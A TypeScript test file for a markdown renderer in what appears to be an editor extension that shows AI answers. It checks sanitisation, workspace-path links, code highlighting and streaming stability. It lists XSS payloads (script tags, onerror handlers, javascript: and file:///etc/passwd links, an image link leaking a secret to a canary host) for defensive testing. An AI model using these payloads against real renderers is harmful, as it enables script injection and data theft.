import * as fc from "fast-check";
import { describe, expect, it } from "vitest";
import {
  findReferences,
  isWebAddress,
  linkedFile,
  wholeReference,
} from "../../../src/webview/markdown/references.ts";
import { renderBlocks } from "../../../src/webview/markdown/render.ts";

function html(markdown: string): string {
  return renderBlocks(markdown)
    .map((block) => block.html)
    .join("");
}

/** Everything between `<` and `>`: what a browser would take for elements. */
function tags(rendered: string): readonly string[] {
  return rendered.match(/<[^>]*>/g) ?? [];
}

const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "![secret](https://canary.test/?d=SECRET)",
  "![x][r]\n\n[r]: https://canary.test/x.png",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](command:workbench.action.quit)",
  "[x](vscode://file/etc/passwd)",
  "[x](file:///etc/passwd)",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](//evil.test/x)",
  "[x](\\\\server\\share)",
  "[x]: javascript:alert(1)\n\n[x]",
  "<javascript:alert(1)>",
  '<https://ok.test/"onmouseover=alert(1)>',
  '[x](https://ok.test/ "t\\" onmouseover=alert(1)")',
  '```"><img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```',
  "`</code><script>alert(1)</script>`",
  'src/"onclick=alert(1)/a.ts:3',
  "<style>@import url(https://canary.test)</style>",
  "<meta http-equiv=refresh content='0;url=https://canary.test'>",
  "| a |\n|:-:|\n| <img src=x onerror=alert(1)> |",
];

describe("an answer", () => {
  it.each(HOSTILE)("cannot bring its own elements, addresses or handlers: %s", (markdown) => {
    for (const tag of tags(html(markdown))) {
      expect(tag).toMatch(
        /^<\/?(?:a|p|pre|code|em|strong|span|ul|ol|li|h\d|hr|br|table|thead|tbody|tr|th|td|blockquote|s)\b/,
      );
      expect(tag).not.toMatch(/\s(?:href|src|srcset|style|on\w+)\s*=\s*(?!"[^"]*&quot;)/i);
    }
  });

  it("only ever links to the web or into the workspace", () => {
    for (const markdown of HOSTILE) {
      for (const [, url] of html(markdown).matchAll(/data-url="([^"]*)"/g))
        expect(url).toMatch(/^https?:\/\//);
    }
  });

  it("stays within its elements whatever it holds", () => {
    const part = fc.constantFrom(
      "<",
      ">",
      '"',
      "'",
      "`",
      "\n",
      "![",
      "](",
      ")",
      "script",
      "javascript:",
      "onerror=",
      "&#",
      "x",
      ":3",
      "a.ts",
      "/",
      "|",
      "-",
    );
    expect(() =>
      fc.assert(
        fc.property(fc.array(part, { maxLength: 40 }), (parts) =>
          tags(html(parts.join(""))).every((tag) => !/^<(?:script|img|svg|iframe|style|input)/i.test(tag)),
        ),
        { numRuns: 500 },
      ),
    ).not.toThrow();
  });

  it("shows web links with their whole address and without an href", () => {
    const rendered = html("See [the guide](https://nodejs.org/en/learn?x=1&y=2).");
    expect(rendered).toContain('data-url="https://nodejs.org/en/learn?x=1&amp;y=2"');
    expect(rendered).toContain('title="https://nodejs.org/en/learn?x=1&amp;y=2"');
    expect(rendered).not.toContain("href");
  });

  it("turns places of the workspace into links, in text, code and links", () => {
    expect(html("look at src/a.ts:12 now")).toContain('data-path="src/a.ts" data-line="12"');
    expect(html("`src/a.ts`")).toContain('data-path="src/a.ts"');
    expect(html("[here](src/a%20b.ts#L7-L9)")).toContain('data-path="src/a b.ts" data-line="7"');
    expect(html("`npm test`")).not.toContain("data-path");
  });

  it("colours code it knows and escapes code it does not", () => {
    expect(html("```ts\nconst a = 1;\n```")).toContain(
      '<pre data-lang="ts"><code><span class="hljs-keyword">const</span>',
    );
    expect(html("```brainfuck\n<+>\n```")).toContain("<code>&lt;+&gt;</code>");
    expect(html("```\nplain\n```")).toContain('data-lang=""');
  });

  it("has code while the fence is still open", () => {
    expect(html("Text\n\n```py\nx = 1")).toContain('<pre data-lang="py">');
  });
});

describe("blocks of a growing answer", () => {
  const TEXT = "# Title\n\nOne *two*.\n\n- a\n- b\n\n```js\nlet a;\n```\n\nEnd.";

  it("are kept as they are when only the end grows", () => {
    let before = renderBlocks("");
    for (let end = 1; end <= TEXT.length; end++) {
      const after = renderBlocks(TEXT.slice(0, end), before);
      const stable = after.slice(0, -1).filter((block, index) => block === before[index]);
      expect(stable.length).toBeGreaterThanOrEqual(after.length - 2);
      before = after;
    }
    expect(before.map(({ html: rendered }) => rendered).join("")).toBe(html(TEXT));
  });

  it("change when a reference they use is defined later", () => {
    const before = renderBlocks("See [x].\n");
    const after = renderBlocks("See [x].\n\n[x]: https://ok.test/\n", before);
    expect(after[0]?.html).toContain('data-url="https://ok.test/"');
  });
});

describe("references", () => {
  it.each([
    ["src/a.ts:3", [["src/a.ts", 3]]],
    ["(lib/x.py:10:4)", [["lib/x.py", 10]]],
    [
      "a.go#L5 and b.rs:6-9",
      [
        ["a.go", 5],
        ["b.rs", 6],
      ],
    ],
    ["/w/src/a.ts:3", [["/w/src/a.ts", 3]]],
    ["https://x.test/a.ts:3", []],
    ["example.com:8080", []],
    ["at 12:30 we met", []],
    ["version 1.2.3", []],
  ] as const)("in “%s”", (text, expected) => {
    expect(findReferences(text).map(({ path, line }) => [path, line])).toEqual(expected);
  });

  it("are whole texts or nothing, and need a folder or a line", () => {
    expect(wholeReference("src/a.ts")).toEqual({ path: "src/a.ts" });
    expect(wholeReference("a.ts:4")).toEqual({ path: "a.ts", line: 4 });
    expect(wholeReference("a.ts")).toBeUndefined();
    expect(wholeReference("import a.ts:4")).toBeUndefined();
  });

  it("take time that grows with the text only", () => {
    expect(findReferences("a.".repeat(20_000))).toEqual([]);
    expect(findReferences("a/".repeat(20_000))).toEqual([]);
  });

  it("tell files from addresses", () => {
    expect(linkedFile("app.ts:3")).toEqual({ path: "app.ts", line: 3 });
    expect(linkedFile("mailto:a@b.de")).toBeUndefined();
    expect(isWebAddress("https://a.test/")).toBe(true);
    expect(isWebAddress("https:nothing")).toBe(false);
  });
});
